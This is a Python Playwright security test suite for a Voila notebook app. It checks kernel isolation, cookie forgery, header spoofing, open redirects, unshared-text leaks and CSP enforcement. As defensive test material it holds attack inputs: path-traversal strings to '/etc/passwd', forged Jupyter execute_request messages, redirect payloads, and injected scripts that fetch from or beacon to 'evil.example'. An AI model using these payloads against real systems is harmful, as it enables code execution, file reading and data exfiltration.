"""Nobody runs code, nobody comes in as somebody else, and no unshared word leaves its author."""

import os
import shutil
import sqlite3
from base64 import b64encode
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect
from tornado.web import create_signed_value

from plgwork.models.months import Month
from plgwork.models.reflections import Draft, Entry, EntryKind, Subject
from plgwork.server.kernels import PageKernel
from tests.browser import oak
from tests.browser.conftest import PageFor, Serve
from tests.browser.looking import (
    Answer,
    Caller,
    kernel_of,
    kernels,
    mode,
    send,
    sign_in,
    socket_of,
    states,
    store_of,
    words,
)
from tests.browser.reflecting import step
from tests.browser.serving import Served
from tests.browser.visiting import LAPTOP, come_in, ready

FACILITATOR, OTHER = "imani-okafor", "ruth-tsosie"
COACH, LEADER, STEWARD = "naomi-feldstrom", "vivian-adebanjo", "tomas-reznicek"
EVER = Month(1900, 1), Month(9999, 12)
NO_KERNEL = "01234567-89ab-cdef-0123-456789abcdef"
REFUSED = "This is not yours to open or change, or it is no longer there."


@pytest.fixture(scope="module")
def imani(served: Served) -> Caller:
    return Caller(served).come_in(FACILITATOR)


@pytest.fixture(scope="module")
def other(served: Served) -> Caller:
    return Caller(served).come_in(OTHER)


@pytest.fixture(scope="module")
def kernel(imani: Caller) -> Iterator[str]:
    """The kernel of a page that Imani has open."""
    kernel = imani.open("home")
    yield kernel
    imani.post(f"voila/api/shutdown/{kernel}")


# --- no code ------------------------------------------------------------------------------------

FORGERIES = [
    *("execute_request", "complete_request", "inspect_request", "is_complete_request"),
    *("history_request", "debug_request", "create_subshell_request", "input_reply"),
]
# The kernel answers in turn: once it has answered the last question, it has seen the others.
FORGE = """
([kernel, kinds, code]) => new Promise((done, fail) => {
  const heard = [];
  const socket = new WebSocket(
    `ws://${location.host}/api/kernels/${kernel}/channels?session_id=forged`);
  const say = (channel, msg_type, content) => socket.send(JSON.stringify({
    channel, content, parent_header: {}, metadata: {}, buffers: [],
    header: { msg_id: crypto.randomUUID(), msg_type, session: "forged", username: "",
              version: "5.4", date: new Date().toISOString() } }));
  const content = { code, silent: false, store_history: false, allow_stdin: false,
                    cursor_pos: 3, detail_level: 0, value: code, type: "request", seq: 1,
                    command: "evaluate", arguments: { expression: code } };
  socket.onopen = () => ["shell", "control"].forEach((channel) => {
    kinds.forEach((kind) => say(channel, kind, content));
    say(channel, "kernel_info_request", {});
  });
  socket.onmessage = ({ data }) => {
    const { channel, header } = JSON.parse(data);
    heard.push(`${channel} ${header.msg_type}`);
    if (["shell", "control"].every((one) => heard.includes(`${one} kernel_info_reply`))) {
      socket.close();
      done(heard);
    }
  };
  socket.onerror = () => fail(new Error("the line did not open"));
})
"""
ASK_THE_FRONT_END = """
async ([code]) => {
  const answered = new Promise((done) => plg.kernel.addEventListener("message", ({ detail }) => {
    const { type, parent, content } = detail;
    const ours = type === "status" && parent.msg_type === "kernel_info_request";
    if (ours) done(content.execution_state);
  }));
  const how = { silent: false, store_history: false, allow_stdin: false };
  plg.kernel.send("execute_request", { code, ...how });
  plg.kernel.send("kernel_info_request", {});
  return await answered;
}
"""


def test_a_message_that_would_run_code_is_dropped(page_for: PageFor, tmp_path: Path) -> None:
    page = page_for(FACILITATOR)
    trace = tmp_path / "was here"
    code = f"open({str(trace)!r}, 'w')"

    heard = page.evaluate(FORGE, [kernel_of(page), FORGERIES, code])
    by_the_front_end = page.evaluate(ASK_THE_FRONT_END, [code])

    answers = {kind.rpartition(" ")[2] for kind in heard if kind.endswith("_reply")}
    assert (answers, by_the_front_end) == ({"kernel_info_reply"}, "busy")
    assert not trace.exists()


def test_nobody_starts_a_kernel_but_by_opening_a_page(imani: Caller, served: Served) -> None:
    with_token = imani.post("api/kernels", {"name": "python3"})
    without = Caller(served).post("api/kernels", {"name": "python3"})

    assert (with_token.status, without.status) == (404, 403)


# --- one's own kernel only ----------------------------------------------------------------------


def test_another_person_may_not_ask_for_use_or_end_a_kernel(
    imani: Caller, other: Caller, kernel: str
) -> None:
    token = {"X-XSRFToken": other.cookies["_xsrf"]}
    refusals = {
        "look": other.get(f"api/kernels/{kernel}").status,
        "talk": other.listen(f"api/kernels/{kernel}/channels"),
        "end": other.post(f"voila/api/shutdown/{kernel}").status,
        "delete": other.ask("DELETE", f"api/kernels/{kernel}", "", token).status,
    }

    assert refusals == dict.fromkeys(refusals, 403)
    assert imani.get(f"api/kernels/{kernel}").status == 200
    assert imani.listen(f"api/kernels/{kernel}/channels") == 101


def test_whoever_is_not_signed_in_reaches_no_kernel_and_hears_nothing(
    served: Served, imani: Caller, kernel: str
) -> None:
    nobody = Caller(served)
    refusals = {
        "look": nobody.get(f"api/kernels/{kernel}").status,
        "talk": nobody.listen(f"api/kernels/{kernel}/channels"),
        "end": nobody.post(f"voila/api/shutdown/{kernel}").status,
        "hear": nobody.get("live").status,
    }

    assert refusals == dict.fromkeys(refusals, 403)
    assert imani.get(f"api/kernels/{kernel}").status == 200


def test_a_kernel_hears_no_page_of_another_site(imani: Caller, kernel: str) -> None:
    assert imani.listen(f"api/kernels/{kernel}/channels", origin="http://evil.example") == 403


# --- no file ------------------------------------------------------------------------------------

NOT_SERVED = [
    *("voila/files/home.ipynb", "voila/files/reflection.ipynb", "voila/tree", "voila/tree/"),
    *("voila/render/../home.ipynb", "voila/render/no-such-page.ipynb", "voila/query/home"),
    *("api", "api/contents", "api/contents/home.ipynb", "api/kernels", "api/kernelspecs"),
    *("api/sessions", "api/terminals", "api/config/common", "api/me", "api/status"),
    *("files/home.ipynb", "notebooks/home.ipynb", "edit/home.ipynb", "nbconvert/html/home.ipynb"),
    *("terminals/websocket/1", "lab/tree/home.ipynb", "home.ipynb", "metrics/", "static/base"),
    *("assets/0/frame/../framing.py", "assets/0/frame/%2e%2e/framing.py", "assets/0/frame/"),
    *("assets/0/frame//etc/passwd", "assets/0/widgets/..%2fpart.py", "assets/frame/frame.js"),
    *("assets/0/widgets/../part.py", "assets/0/widgets/..%2f..%2f..%2fetc%2fpasswd"),
    *("voila/static/voila.js", "voila/labextensions/anywidget/package.json", "cookie-secret"),
]


@pytest.mark.parametrize("who", [None, FACILITATOR, COACH, LEADER, STEWARD])
def test_no_file_notebook_or_listing_is_handed_out(served: Served, who: str | None) -> None:
    caller = Caller(served).come_in(who) if who else Caller(served)

    answers = {path: caller.get(path) for path in NOT_SERVED}

    assert [path for path, answer in answers.items() if not refused(answer)] == []


def refused(answer: Answer) -> bool:
    """Whether one was turned away; at what might be a page, whoever is nobody is led away."""
    return answer.status in (403, 404) or answer.leads_to.startswith("/choose")


@pytest.mark.parametrize(
    "page", ["", "home", "reflection?month=2026-11", "voila/render/year.ipynb"]
)
def test_whoever_is_not_signed_in_is_led_to_the_door(served: Served, page: str) -> None:
    answer = Caller(served).get(page)

    assert (answer.status, answer.leads_to.partition("?")[0]) == (302, "/choose")


@pytest.mark.parametrize("who", [LEADER, STEWARD, "caleb-yoder"])
def test_a_page_of_another_role_is_refused_before_a_kernel_starts(served: Served, who: str) -> None:
    caller, before = Caller(served).come_in(who), set(kernels(served))

    answers = [caller.get(page) for page in ("reflection", "voila/render/year.ipynb")]

    assert [answer.status for answer in answers] == [403, 403]
    assert all("It belongs to a role that you do not have." in answer.text for answer in answers)
    assert set(kernels(served)) <= before


def test_nobody_chooses_another_template_or_theme(imani: Caller) -> None:
    page = imani.get("home?voila-template=lab&voila-theme=dark&template=classic")

    assert page.status == 200
    assert 'class="plg-bar"' in page.text
    assert "theme-dark" not in page.text


# --- nobody comes in as somebody else -----------------------------------------------------------


@pytest.mark.parametrize(
    "header", ["X-Forwarded-User", "X-Remote-User", "Remote-User", "X-Auth-Request-User", "From"]
)
def test_a_header_that_names_a_person_changes_nothing(
    served: Served, imani: Caller, header: str
) -> None:
    assert "Imani Okafor, facilitator" in imani.get("choose", **{header: COACH}).text
    assert Caller(served).get("home", **{header: COACH}).status == 302


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("Forwarded", "for=192.0.2.7;host=workbook.example"),
        ("X-Forwarded-For", "192.0.2.7"),
        ("X-Forwarded-Host", "workbook.example"),
        ("X-Forwarded-Proto", "https"),
        ("X-Real-IP", "192.0.2.7"),
        ("Host", "evil.example"),
    ],
)
def test_the_demo_answers_only_the_machine_it_runs_on(
    imani: Caller, kernel: str, header: str, value: str
) -> None:
    asked = [
        "",
        "choose",
        "home",
        "live",
        f"api/kernels/{kernel}",
        "assets/0/frame/frame.js",
    ]

    answers = [imani.get(path, **{header: value}) for path in asked]

    assert [answer.status for answer in answers] == [403] * len(asked)
    assert all("only the machine it runs on" in answer.text for answer in answers)


ELSEWHERE = {"Host": "hub.example", "X-Forwarded-For": "192.0.2.7"}


def test_where_it_is_asked_to_it_answers_anybody_and_says_that_nothing_is_kept(
    serve: Serve,
) -> None:
    answer = Caller(serve(demo_anywhere=1)).get("choose", **ELSEWHERE)

    assert answer.status == 200
    assert "nothing that you write here is kept" in answer.text


def test_asked_to_answer_anybody_a_real_school_still_wants_a_password(
    serve: Serve, tmp_path: Path
) -> None:
    oak.real_school(tmp_path)
    somebody = Caller(serve(data=tmp_path, demo=False, demo_anywhere=1))

    assert somebody.get("choose").status == 302
    assert somebody.get("home").leads_to.startswith("/sign-in")
    assert "nothing that you write here is kept" not in somebody.get("sign-in").text


def test_no_script_can_read_the_cookie_and_no_other_site_sends_it(page_for: PageFor) -> None:
    page = sign_in(page_for(None), FACILITATOR)

    [cookie] = [one for one in page.context.cookies() if one["name"].startswith("plgwork-")]
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["expires"]) == (True, "Lax", -1)
    assert all(one["sameSite"] == "Lax" for one in page.context.cookies())


FORGED: dict[str, Callable[[str, str], str]] = {
    "made up": lambda name, value: FACILITATOR,
    "empty": lambda name, value: "",
    "signed by another": lambda name, value: signed("another secret", name, COACH),
    "another name in it": lambda name, value: value.replace(encoded(FACILITATOR), encoded(COACH)),
    "a character changed": lambda name, value: value[:-1] + ("0" if value[-1] != "0" else "1"),
    "cut short": lambda name, value: value[: len(value) // 2],
    "nonsense": lambda name, value: "2|1:0|10:9999999999|4:none|4:none|" + "0" * 64,
}


def signed(secret: str | bytes, name: str, value: str) -> str:
    return create_signed_value(secret, name, value).decode()


def encoded(person: str) -> str:
    return b64encode(person.encode()).decode()


@pytest.mark.parametrize("forge", FORGED.values(), ids=FORGED)
def test_a_forged_cookie_opens_nothing(
    served: Served, imani: Caller, forge: Callable[[str, str], str]
) -> None:
    name = next(name for name in imani.cookies if name.startswith("plgwork-"))

    forger = Caller(served, {name: forge(name, imani.cookies[name])})

    assert forger.get("home").leads_to.startswith("/choose")
    assert forger.get("live").status == 403


def test_a_cookie_of_somebody_who_is_no_longer_here_opens_nothing(
    served: Served, imani: Caller
) -> None:
    name = next(name for name in imani.cookies if name.startswith("plgwork-"))
    secret = (served.data / "cookie-secret").read_bytes()

    answers = {
        person: Caller(served, {name: signed(secret, name, person)}).get("choose").text
        for person in (FACILITATOR, "nobody-of-that-name")
    }

    shown = {person: "Leave the demo" in text for person, text in answers.items()}
    assert shown == {FACILITATOR: True, "nobody-of-that-name": False}


@pytest.mark.parametrize("path", ["choose", "leave", f"voila/api/shutdown/{NO_KERNEL}"])
def test_what_another_site_sends_is_refused(served: Served, imani: Caller, path: str) -> None:
    guest = Caller(served, dict(imani.cookies))

    without = guest.post(path, {"person": COACH}, **{"X-XSRFToken": ""})
    forged = guest.post(path, {"person": COACH}, **{"X-XSRFToken": "2|00000000|00|1"})

    assert (without.status, forged.status) == (403, 403)
    assert "Imani Okafor, facilitator" in guest.get("choose").text


@pytest.mark.parametrize(
    "next_page",
    [
        *("https://evil.example/", "//evil.example/", "///evil.example", "http:evil.example"),
        *("/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/\n//evil.example"),
        *("javascript:alert(1)", "evil.example", "", "@evil.example", "%2f%2fevil.example"),
    ],
)
def test_the_door_leads_to_our_own_pages_only(served: Served, next_page: str) -> None:
    guest = Caller(served)
    door = guest.get(f"choose?{urlencode({'next': next_page})}")

    led = guest.post("choose", {"person": COACH, "next": next_page})

    assert '<input type="hidden" name="next" value="/">' in door.text
    assert (led.status, led.leads_to) == (302, "/")


def test_the_door_leads_on_to_the_page_one_wanted(served: Served) -> None:
    guest = Caller(served)
    guest.get("choose")

    led = guest.post("choose", {"person": COACH, "next": "/reflection?month=2026-10"})

    assert led.leads_to == "/reflection?month=2026-10"


def test_whoever_left_is_not_signed_in_any_more(served: Served) -> None:
    guest = Caller(served).come_in(OTHER)
    kernel = guest.open("home")

    guest.post("leave")

    refusals = [guest.get(f"api/kernels/{kernel}").status, guest.get("live").status]
    assert guest.get("home").leads_to.startswith("/choose")
    assert refusals == [403, 403]


# --- no unshared word ---------------------------------------------------------------------------


@dataclass
class Walk:
    """What somebody met who opened every page they may open."""

    requests: list[str] = field(default_factory=list)
    met: list[str] = field(default_factory=list)

    def step(self, page: Page, path: str) -> None:
        """Open a page and take down everything in it: what is shown and what is not."""
        if path != "home":  # where one arrives
            page.goto(path)
            ready(page)
        self.met += [page.content(), *words(states(page))]


WALKS = {
    COACH: ["home", "reflection", "year", "protocols", "run"],
    OTHER: ["home", "reflection?month=2026-10"],
    LEADER: ["home"],
    STEWARD: ["home"],
}


@pytest.fixture(scope="module", params=WALKS)
def walk(
    request: pytest.FixtureRequest, browser: Browser, served: Served
) -> Iterator[tuple[str, Walk]]:
    """Every page of one person, and all that was asked for on the way."""
    person, made = str(request.param), Walk()
    context = browser.new_context(base_url=f"{served.url}/", viewport=LAPTOP)
    context.on("request", lambda asked: made.requests.append(asked.url))
    page = context.new_page()
    page.on("websocket", lambda socket: made.requests.append(socket.url))
    come_in(page, person)
    for path in WALKS[person]:
        made.step(page, path)
    yield person, made
    context.close()


def test_no_page_and_no_widget_holds_a_word_that_others_did_not_share(
    walk: tuple[str, Walk], served: Served
) -> None:
    person, made = walk
    private = unshared(served, person)

    leaked = [text for text in private if any(text in met for met in made.met)]

    assert len(private) > 100
    assert leaked == []


def test_nothing_is_loaded_from_another_host(walk: tuple[str, Walk], served: Served) -> None:
    _, made = walk
    hosts = {
        urlsplit(url).netloc for url in made.requests if not url.startswith(("data:", "blob:"))
    }

    assert hosts == {urlsplit(served.url).netloc}


def unshared(served: Served, reader: str) -> set[str]:
    """The beginnings of all texts that others wrote and did not share, earlier versions too."""
    asked = """
        SELECT versions.text FROM versions JOIN entries ON entries.id = versions.entry_id
        WHERE entries.author_id != ? AND versions.text NOT IN (SELECT text FROM shares)
    """
    with closing(sqlite3.connect(served.data / "workbook.sqlite")) as database:
        texts = [text for (text,) in database.execute(asked, [reader])]
    return {text.strip()[:60] for text in texts if len(text) > 20}


# --- controls that nobody offered ---------------------------------------------------------------


@pytest.fixture
def secret(served: Served) -> Entry:
    """An entry of Imani's that she shared with nobody."""
    subject = Subject(month="2026-11", kind=EntryKind.ANSWER, about="hers", asked="What now?")
    with store_of(served, FACILITATOR) as imani:
        return imani.reflections.save(Draft(subject=subject, text="Mine alone.", sitting="one"))


def test_my_year_does_nothing_to_an_entry_of_somebody_elses(
    page_for: PageFor, served: Served, secret: Entry
) -> None:
    page = sign_in(page_for(None), OTHER)
    page.goto("year")
    ready(page)

    send(page, "warning", {"kind": "delete", "id": secret.id})
    send(page, "warning", {"kind": "versions", "id": secret.id})
    send(page, "warning", {"kind": "search", "query": "alone zebra"})

    expect(page.get_by_text("Nothing you wrote holds these words.")).to_be_visible()
    expect(page.get_by_text(REFUSED)).to_be_visible()
    assert kept(served) == secret
    assert secret.text not in "".join(words(states(page)))


def kept(served: Served) -> Entry:
    """Imani's unshared entry as it is now."""
    with store_of(served, FACILITATOR) as imani:
        found = imani.reflections.entries_between(*EVER)
        return next(entry for entry in found if entry.subject.about == "hers")


# A widget takes its messages in turn: once this one is answered, all were heard.
SETTLE_UPON = """
async ([card, base]) => {
  const model = plg.models.get(card);
  const answered = new Promise((done) => model.on("change:answer", done));
  model.set("bases", [base]);
  model.save_changes();
  model.send({ kind: "settle", id: base, text: "Written over hers.", ticket: 1 });
  await answered;
}
"""


def test_a_reflection_does_nothing_to_an_entry_of_somebody_elses(
    page_for: PageFor, served: Served, secret: Entry
) -> None:
    page = sign_in(page_for(None), OTHER)
    page.goto("reflection?month=2026-09")
    ready(page)
    card = next(name for name, state in states(page).items() if state.get("area"))

    send(page, "rows", {"kind": "share", "id": secret.id})
    send(page, "rows", {"kind": "withdraw", "id": secret.id})
    page.evaluate(SETTLE_UPON, [card, secret.versions[0].id])

    step(page, "Share")
    expect(page.get_by_text("That text is no longer here.")).to_be_visible()
    assert kept(served) == secret
    assert secret.text not in "".join(words(states(page)))


def test_one_hears_of_ones_own_changes_and_of_nobody_elses(
    served: Served, other: Caller, secret: Entry
) -> None:
    subject = Subject(month="2026-11", kind=EntryKind.ANSWER, about="his", asked="What now?")
    with other.hearing() as lines, store_of(served, FACILITATOR) as imani:
        assert next(lines) == "id: 0"
        imani.reflections.save(Draft(subject=subject, text="Hers first.", sitting="one"))
        with store_of(served, OTHER) as ruth:
            ruth.reflections.save(Draft(subject=subject, text="Then hers.", sitting="one"))

        told = next(line for line in lines if line.startswith("data:"))

    assert told == f'data: {{"topic": "person:{OTHER}"}}'


# --- no secret in a kernel ----------------------------------------------------------------------

HUSH = "hush-hush-4711"


@pytest.mark.parametrize("quick", [0, 1])
def test_a_kernel_knows_no_password_no_address_of_the_database_and_no_cookie_secret(
    serve: Serve, school: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, quick: int
) -> None:
    for name in ("AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "PGPASSWORD", "GITHUB_TOKEN", "JPY_KEY"):
        monkeypatch.setenv(name, HUSH)
    database = shutil.copytree(school, tmp_path / "elsewhere") / "workbook.sqlite"
    served = serve(database=f"sqlite:///{database}", quick=quick)

    imani = Caller(served).come_in(FACILITATOR)
    imani.open("home")

    [kernel] = kernels(served)
    environment, command = kernel.environ(), kernel.cmdline()
    known = "\n".join([*environment.keys(), *environment.values(), *command])
    cookies = (served.data / "cookie-secret").read_bytes()
    # A forked one is told who is here when it is one, and shows what it was forked from.
    assert environment.get("PLGWORK_VISITOR") == (None if quick else FACILITATOR)
    assert HUSH not in known
    assert str(database) not in known
    assert cookies.hex() not in known
    assert b64encode(cookies).decode() not in known
    assert "PLGWORK_DATABASE" not in environment


def test_the_letter_with_the_databases_address_is_gone_once_a_page_has_read_it(
    imani: Caller,
) -> None:
    # One of its own: a page that no browser asks after for minutes is ended.
    kernel = imani.open("home")
    folder = socket_of(kernel)[1].parent

    assert (folder / f"kernel-{kernel}.json").exists()
    assert not (folder / f"kernel-{kernel}.letter").exists()
    assert not mode(folder) & 0o077
    imani.post(f"voila/api/shutdown/{kernel}")


def test_nobody_but_its_user_can_open_the_letter(tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        kernel = PageKernel(connection_file=str(tmp_path / "kernel-1.json"))
        letter = kernel._write_letter("postgresql://somebody:secret@host/name")
    finally:
        os.umask(before)

    assert mode(letter) == 0o600


@pytest.mark.parametrize("name", ["cookie-secret", "workbook.sqlite"])
def test_nobody_but_its_user_can_open_what_the_server_keeps(served: Served, name: str) -> None:
    assert mode(served.data / name) & 0o077 == 0


# --- nothing foreign runs -----------------------------------------------------------------------

# One way may be stopped by more than one directive; which of them speaks first is the browser's.
INJECT = """
([way, by]) => new Promise((done) => {
  const stopped = [];
  document.addEventListener("securitypolicyviolation", ({ violatedDirective }) => {
    stopped.push(violatedDirective);
    if (violatedDirective === by) done(by);
  });
  setTimeout(() => done(stopped.join(" ")), 30000);
  const ways = {
    script: () => { const script = document.createElement("script");
      script.textContent = "window.plgHacked = 1"; document.body.append(script); },
    handler: () => { const image = document.createElement("img");
      image.setAttribute("onerror", "window.plgHacked = 1"); image.src = "x:";
      document.body.append(image); },
    elsewhere: () => { const script = document.createElement("script");
      script.src = "https://evil.example/x.js"; document.body.append(script); },
    send: () => { fetch("https://evil.example/?words").catch(() => {}); },
    picture: () => { new Image().src = "https://evil.example/?words"; },
    form: () => { const form = document.createElement("form");
      form.action = "https://evil.example/"; document.body.append(form); form.submit(); },
    frame: () => { const frame = document.createElement("iframe");
      frame.src = "https://evil.example/"; document.body.append(frame); },
    base: () => { const base = document.createElement("base");
      base.href = "https://evil.example/"; document.head.append(base); },
  };
  ways[way]();
})
"""
WAYS = {
    "script": "script-src-elem",
    "handler": "script-src-attr",
    "elsewhere": "script-src-elem",
    "send": "connect-src",
    "picture": "img-src",
    "form": "form-action",
    "frame": "frame-src",
    "base": "base-uri",
}


def test_what_is_injected_into_a_page_neither_runs_nor_sends_anything(page_for: PageFor) -> None:
    page = page_for(FACILITATOR)

    stopped = {way: page.evaluate(INJECT, [way, by]) for way, by in WAYS.items()}

    assert stopped == WAYS
    assert page.evaluate("() => window.plgHacked") is None


@pytest.mark.parametrize("path", ["choose", "home", "no-such-page", "voila/tree"])
def test_every_page_comes_with_a_policy_and_is_kept_by_nobody(imani: Caller, path: str) -> None:
    page = imani.get(path)

    policy = dict(
        part.partition(" ")[::2] for part in page.headers["content-security-policy"].split("; ")
    )
    assert "unsafe" not in policy["script-src"]
    assert "http" not in page.headers["content-security-policy"]
    assert (policy["base-uri"], policy["frame-ancestors"]) == ("'none'", "'none'")
    assert page.headers["cache-control"] == "no-store"
    assert page.headers["x-content-type-options"] == "nosniff"


def test_each_visit_has_a_nonce_of_its_own(imani: Caller) -> None:
    policies = {imani.get("choose").headers["content-security-policy"] for _ in range(3)}

    assert len(policies) == 3
